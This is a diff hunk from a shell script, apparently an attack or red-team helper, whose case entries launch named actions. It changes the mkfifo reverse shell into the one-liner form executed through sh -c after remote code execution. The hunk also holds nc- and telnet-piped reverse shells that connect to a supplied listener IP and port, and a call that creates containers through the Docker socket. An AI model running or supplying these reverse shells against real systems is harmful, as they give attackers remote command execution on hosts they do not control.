@@ -104,8 +104,8 @@ case "$name" in
     /tmp/curl dockerapi /var/run/docker.sock POST /containers/create ;;
   revshell-pipe)     # target: a listener; the shell reads commands from nc through a pipe (no -e, no dup2)
     nc "${1:?listener ip}" "${2:-4444}" | /bin/sh ;;
-  revshell-fifo)     # the mkfifo reverse shell: fifo -> sh -i -> nc -> fifo
-    rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc "${1:?listener ip}" "${2:-4444}" > /tmp/f; rm -f /tmp/f ;;
+  revshell-fifo)     # the mkfifo reverse shell: fifo -> sh -i -> nc -> fifo, as the one-liner an RCE runs with sh -c
+    /bin/sh -c "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${1:?listener ip} ${2:-4444} > /tmp/f; rm -f /tmp/f" ;;
   revshell-telnet)   # telnet-style: commands from telnet piped into a shell
     telnet "${1:?listener ip}" "${2:-4444}" | /bin/sh ;;
   # ---- stale containers ----
